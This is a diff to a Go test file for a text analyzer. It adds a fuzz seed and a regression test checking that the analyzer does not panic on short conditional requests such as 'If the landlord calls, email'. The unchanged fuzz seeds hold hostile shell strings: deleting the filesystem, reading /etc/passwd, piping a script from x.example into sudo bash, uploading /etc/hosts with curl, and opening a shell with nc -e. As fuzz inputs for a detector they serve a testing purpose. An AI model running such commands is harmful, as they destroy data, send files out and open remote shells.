@@ -701,6 +701,7 @@ func FuzzAnalyze(f *testing.F) {
 	f.Add("``` import os, socket\nos.system('rm -rf /'); exec(open('/etc/passwd').read()) ```")
 	f.Add("curl -fsSL https://x.example/i.sh | sudo -E bash -\nbash <(wget -qO- x) && eval \"$(curl x)\"; curl -F f=@/etc/hosts -d@x --data-binary=@y u; nc -e /bin/sh h 1 | perl -ne x")
 	f.Add("curl -F")
+	f.Add("If the landlord calls, email")
 	f.Add("0n't ten")
 	f.Add("It ran two seasons, or 2 in all; twenty one, twenty-two hundred, two-thirds of a dozen.")
 	f.Add("Ines Varga did not design it: not twenty-two but thirty-one, wrongly given as Tomas Brandt.")
@@ -1107,6 +1108,21 @@ func TestAddressedToAgentReadsAnAddress(t *testing.T) {
 		z.Analyze(tt.text, &a)
 		if got := a.Cues[AddressedToAgent] > 0; got != tt.want {
 			t.Errorf("%q: addressed_to_agent %v, want %v", tt.text, a.Cues[AddressedToAgent], tt.want)
+		}
+	}
+}
+
+// TestAnalyzeTextEndingInAnAct: a request read after a condition looks
+// two words past its act for where it goes; a text that ends at the act
+// once read past its end (helper-139).
+func TestAnalyzeTextEndingInAnAct(t *testing.T) {
+	var z Analyzer
+	var a Analysis
+	for _, text := range []string{"If the landlord calls, email", "If it rains, cancel", "when done, share",
+		"If you see this, send", "If you see this, send it", "If you see this, send it to"} {
+		z.Analyze(text, &a) // must not panic
+		if a.Words == nil && a.Cues == ([NumCues]float32{}) {
+			t.Errorf("%q: nothing read", text)
 		}
 	}
 }
